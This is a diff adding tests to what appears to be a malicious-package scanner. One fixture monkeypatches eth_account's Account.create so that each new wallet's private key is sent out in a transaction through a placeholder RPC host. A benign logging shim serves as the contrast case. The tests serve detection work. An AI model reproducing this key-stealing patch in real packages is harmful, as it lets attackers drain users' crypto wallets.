@@ -1764,3 +1764,49 @@ def test_a_c_library_called_with_decoded_data_runs_no_program() -> None:
     """
     for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
         assert not {r for r in danger(source, mode=mode) if r.startswith("CPL-THR")}
+
+
+# -- blind14: a patched library function that hands what it gets to a helper that sends -------
+
+_PATCH_THROUGH_HELPER = """
+from eth_account import Account
+from web3 import Web3
+W3 = Web3(Web3.HTTPProvider("https://rpc.node.example"))
+_create = Account.create
+def _send(key):
+    W3.eth.send_raw_transaction(SIGNER.sign_transaction({"data": key}).raw_transaction)
+def create(*a, **k):
+    acct = _create(*a, **k)
+    _send(acct.key.hex())
+    return acct
+Account.create = create
+"""
+
+
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_a_patched_library_function_sending_through_a_helper_is_a_threat(mode: ScanMode) -> None:
+    assert "CPL-THR-025" in danger(_PATCH_THROUGH_HELPER, "setutils/__init__.py", mode=mode)
+
+
+def test_a_patched_library_function_whose_helper_only_logs_is_no_threat() -> None:
+    # a compatibility shim wrapping the library's function, its helper logging locally; and
+    # web3 used for the package's own transactions to a node it is configured with
+    source = """
+    import logging
+    from eth_account import Account
+    from web3 import Web3
+    _create = Account.create
+    def _note(address):
+        logging.getLogger(__name__).info("created %s", address)
+    def create(*a, **k):
+        acct = _create(*a, **k)
+        _note(acct.address)
+        return acct
+    Account.create = create
+    def transfer(w3: Web3, tx):
+        return w3.eth.send_raw_transaction(tx)
+    """
+    for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
+        assert not {
+            r for r in danger(source, "shim/__init__.py", mode=mode) if r.startswith("CPL-THR")
+        }
